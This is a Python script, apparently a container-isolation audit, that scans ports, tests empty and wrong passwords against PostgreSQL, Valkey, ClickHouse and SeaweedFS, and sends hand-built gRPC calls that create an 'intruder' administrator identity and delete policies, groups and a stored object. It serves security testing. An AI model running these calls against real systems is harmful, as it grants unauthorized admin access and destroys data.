"""What somebody in a container can reach: run inside of one, prints its findings as JSON.

Usage: python -c "$(cat probe.py)" ports HOST...   which TCP ports of the variable PORTS accept a connection
       python -c "$(cat probe.py)" logins          what the stores answer to no password and to a wrong one
       python -c "$(cat probe.py)" calls HOST      whether SeaweedFS does what changes it, without a key
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import sys
from collections.abc import Callable, Iterable, Sequence

import httpx

CONNECT_WITHIN_S = 4.0
WRONG = "wrong-password-of-a-stranger"


async def open_ports(host: str, ports: Iterable[int]) -> list[int]:
    """Return which TCP ports of a host accept a connection. One that says nothing for 4 s is closed."""

    async def knock(port: int) -> int:
        try:
            _, writer = await asyncio.wait_for(asyncio.open_connection(host, port), CONNECT_WITHIN_S)
        except (OSError, TimeoutError):
            return 0
        writer.close()
        return port

    return sorted(filter(None, await asyncio.gather(*map(knock, ports))))


async def scan(hosts: Sequence[str], ports: Sequence[int]) -> dict[str, list[int]]:
    """Return the open ports of each host. All are tried at once: most of them time out."""
    found = await asyncio.gather(*(open_ports(host, ports) for host in hosts))
    return dict(zip(hosts, found, strict=True))


def postgres(password: str) -> str:
    """Return why PostgreSQL refuses a login, or what it answered."""
    import psycopg

    host = "host=postgres user=langfuse dbname=langfuse connect_timeout=5"
    try:
        with psycopg.connect(f"{host} password={password}" if password else host) as connection:
            return str(connection.execute("SELECT count(*) FROM pg_tables").fetchone())
    except psycopg.OperationalError as error:
        return str(error)


def valkey(password: str) -> str:
    """Return the first answer to a command in Valkey's own protocol."""
    login = f"AUTH {password}\r\n" if password else ""
    with socket.create_connection(("valkey", 6379), timeout=5) as connection:
        connection.sendall(f"{login}KEYS *\r\n".encode())
        return connection.recv(200).decode().splitlines()[0]


def clickhouse(password: str) -> str:
    """Return status and first line of the answer to a query."""
    headers = {"X-ClickHouse-User": "langfuse", "X-ClickHouse-Key": password} if password else {}
    return _http("http://clickhouse:8123/?query=SELECT%20name%20FROM%20system.tables", headers)


def s3(password: str) -> str:
    """Return status and first line of the answer to a list of buckets."""
    signature = (
        "AWS4-HMAC-SHA256 Credential={0}/20260101/us-east-1/s3/aws4_request,SignedHeaders=host,Signature={0}"
    )
    headers = (
        {"Authorization": signature.format(password), "x-amz-date": "20260101T000000Z"} if password else {}
    )
    return _http("http://seaweedfs:8333/", headers)


def _http(url: str, headers: dict[str, str]) -> str:
    answer = httpx.get(url, headers=headers, timeout=5)
    return f"{answer.status_code} {answer.text[:500]}"


# gRPC by hand, as no client of it is in any image: frames of HTTP/2, headers as plain literals,
# and messages whose lengths fit a byte.
DATA, HEADERS, SETTINGS, END_STREAM, END_HEADERS, ACK = 0, 1, 4, 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def _field(number: int, value: bytes) -> bytes:
    return bytes([number << 3 | 2, len(value)]) + value


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def grpc(host: str, port: int, path: str, message: bytes) -> str:
    """Return whether a call was `done` (its answer has a message), `refused`, or the port `unreachable`."""
    pairs = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": f"{host}:{port}",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    block = b"".join(
        b"\0" + b"".join(bytes([len(part)]) + part.encode() for part in pair) for pair in pairs.items()
    )
    body = b"\0" + len(message).to_bytes(4, "big") + message
    try:
        connection = socket.create_connection((host, port), timeout=CONNECT_WITHIN_S)
    except OSError:
        return "unreachable"
    with connection, connection.makefile("rb") as answer:
        connection.sendall(PREFACE + _frame(SETTINGS, 0, 0, b"") + _frame(HEADERS, END_HEADERS, 1, block))
        connection.sendall(_frame(DATA, END_STREAM, 1, body))
        said = False
        while len(head := answer.read(9)) == 9:
            kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
            payload = answer.read(int.from_bytes(head[:3], "big"))
            if kind == SETTINGS and not flags & ACK:
                connection.sendall(_frame(SETTINGS, ACK, 0, b""))
            said = said or (stream == 1 and kind == DATA and bool(payload))
            if stream == 1 and flags & END_STREAM:
                return "done" if said else "refused"
    return "refused"


def calls(host: str) -> dict[str, str]:
    """Return what became of each call that makes somebody an administrator, or deletes."""
    cache, life = "/messaging_pb.SeaweedS3IamCache", "/s3_lifecycle_pb.SeaweedS3LifecycleInternal"
    name = _field(1, b"intruder")
    identity = name + _field(2, name + _field(2, b"intruder")) + _field(3, b"Admin")
    deletion = _field(1, b"langfuse-media") + _field(2, b"kosmos/x") + bytes([5 << 3, 1])
    messages = {
        f"{cache}/PutIdentity": _field(1, identity),
        f"{cache}/RemoveIdentity": _field(1, b"nobody"),
        f"{cache}/PutPolicy": _field(1, b"p") + _field(2, b'{"Version":"2012-10-17","Statement":[]}'),
        f"{cache}/ListPolicies": b"",
        f"{cache}/DeletePolicy": _field(1, b"p"),
        f"{cache}/PutGroup": _field(1, _field(1, b"g")),
        f"{cache}/RemoveGroup": _field(1, b"g"),
        f"{life}/LifecycleDelete": deletion,
    }
    return {path: grpc(host, 18333, path, message) for path, message in messages.items()}


STORES: tuple[Callable[[str], str], ...] = (postgres, valkey, clickhouse, s3)


def main(what: str, *hosts: str) -> None:
    """Print the findings."""
    found: object
    if what == "ports":
        ports = [int(port) for port in os.environ["PORTS"].split()]
        found = asyncio.run(scan(hosts, ports))
    elif what == "calls":
        found = {host: calls(host) for host in hosts}
    else:
        found = {store.__name__: {"none": store(""), "wrong": store(WRONG)} for store in STORES}
    print(json.dumps(found))


main(*sys.argv[1:])
